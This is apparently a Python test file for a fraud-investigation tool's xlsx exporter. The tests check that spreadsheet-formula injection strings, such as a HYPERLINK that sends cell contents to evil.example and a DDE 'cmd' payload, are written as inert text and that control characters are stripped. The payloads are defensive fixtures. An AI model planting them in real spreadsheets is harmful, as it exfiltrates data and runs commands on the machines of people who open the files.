"""Every xlsx fanzha writes goes through one writer, which never writes a live formula."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from fanzha.domain.xlsx_export import SheetData, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/x?d="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "＝1+1",
    "\t=1+1",
]


def formulas_in(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name))
        ]


def test_hostile_texts_are_written_as_text_and_read_back_unchanged() -> None:
    content = write_xlsx([SheetData("线索", [["涉诈标识"], *([value] for value in HOSTILE), [12.5], [-3]])])
    assert formulas_in(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert values == [*HOSTILE, 12.5, -3]  # numbers stay numbers


def test_control_characters_do_not_break_an_export() -> None:
    content = write_xlsx([SheetData("s", [["a\x00b\x07c"]])])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None and sheet["A1"].value == "abc"


def test_no_other_module_writes_a_workbook() -> None:
    package = Path(__file__).resolve().parents[2] / "fanzha"
    writers = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "from openpyxl import Workbook" in path.read_text(encoding="utf-8")
    ]
    # The generator writes the synthetic county's bank statements, not exports.
    assert sorted(writers) == ["domain/xlsx_export.py", "generator/statements.py"]
